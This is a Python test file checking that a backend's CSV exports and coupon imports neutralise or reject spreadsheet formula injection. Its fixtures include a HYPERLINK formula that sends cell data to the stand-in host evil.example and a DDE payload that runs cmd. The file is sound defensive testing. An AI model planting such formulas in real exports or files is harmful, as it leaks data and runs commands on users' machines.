"""Spreadsheet formula injection (docs/security.md#csv-exports): a cell an anonymous visitor or a partner file
chose never reaches finance's spreadsheet as a formula, and the coupon import refuses codes and partners outside
their alphabet (docs/operator-console.md#campaigns-and-coupons)."""

from __future__ import annotations

import csv
import io

import pytest

from bff.csv_export import cell, table
from tests.helpers import register

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


@pytest.mark.parametrize(
    "value, written",
    [
        (FORMULA, "'" + FORMULA),
        ("+1+1", "'+1+1"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("-1.50", "-1.50"),  # a plain number stays a number
        ("+3", "+3"),
        (-2, "-2"),
        ("summer=sale", "summer=sale"),  # only the first character counts
        (None, ""),
        (True, "1"),
        (False, ""),
    ],
)
def test_cells_that_a_spreadsheet_would_run_are_neutralised(value, written):
    assert cell(value) == written
    [[read]] = list(csv.reader(io.StringIO(table([], [[value]]).split("\r\n", 1)[1])))
    assert read == written


def test_a_visitors_utm_campaign_reaches_the_funnel_csv_as_text(client, staff_members):
    answer = register(client, email="visitor@example.com", utm={"campaign": FORMULA})
    assert answer.status_code == 200, answer.json
    response = client.get(
        "/ops/v1/revenue/funnel?format=csv", headers=staff_members.headers("finance")
    )
    assert response.status_code == 200 and response.mimetype == "text/csv"
    rows = list(csv.DictReader(io.StringIO(response.get_data(as_text=True))))
    assert [r["campaign"] for r in rows if r["registered"] == "1"] == ["'" + FORMULA]
    assert not any(v.startswith(("=", "+", "@")) for r in rows for v in r.values())


@pytest.mark.parametrize(
    "row",
    [
        '"' + FORMULA.replace('"', '""') + '",UNIQUE_ACCESS_COUPON,P1M,',
        "=1+1,UNIQUE_ACCESS_COUPON,P1M,",
        "-SHOP,UNIQUE_ACCESS_COUPON,P1M,",
        "@SHOP,UNIQUE_ACCESS_COUPON,P1M,",
        "SHOP 1,UNIQUE_ACCESS_COUPON,P1M,",
        "ＳＨＯＰ１,UNIQUE_ACCESS_COUPON,P1M,",
        "SHOP-1,UNIQUE_ACCESS_COUPON,P1M,=cmd|' /C calc'!A0",
        "SHOP-1,UNIQUE_ACCESS_COUPON,P1M,+partner",
    ],
)
def test_the_import_refuses_a_formula_code_or_partner(client, staff_members, row):
    admin = staff_members.headers("admin")
    answer = client.post(
        "/ops/v1/campaigns/import",
        json={"csv": f"code,coupon_type,duration_code,partner\n{row}\n", "reason": "file"},
        headers=admin,
    ).json
    assert answer["added"] == 0 and answer["errors"][0].startswith("line 2: bad ")
    assert client.get("/ops/v1/campaigns/report?prefix=shop", headers=admin).json["issued"] == 0


def test_a_batch_partner_and_a_codes_prefix_follow_their_alphabet(client, staff_members):
    admin = staff_members.headers("admin")
    batch = {"prefix": "shop", "type": "UNIQUE_ACCESS_COUPON", "duration": "P1M", "count": 1}
    for partner in ("=1+1", "-orange", "or ange", "x" * 51):
        answer = client.post("/ops/v1/campaigns", json={**batch, "partner": partner}, headers=admin)
        assert (answer.status_code, answer.json["message"]) == (400, "parameterRequired")
    made = client.post(
        "/ops/v1/campaigns", json={**batch, "partner": "orange.fr", "reason": "r"}, headers=admin
    )
    assert made.status_code == 200, made.json
    for prefix in ("=SHOP", "@shop", "sh op"):
        answer = client.get(
            "/ops/v1/campaigns/codes", query_string={"prefix": prefix}, headers=admin
        )
        assert answer.status_code == 400
    codes = client.get("/ops/v1/campaigns/codes?prefix=shop", headers=admin)
    [row] = list(csv.DictReader(io.StringIO(codes.get_data(as_text=True))))
    assert (row["partner"], row["code"][:5]) == ("orange.fr", "SHOP-")
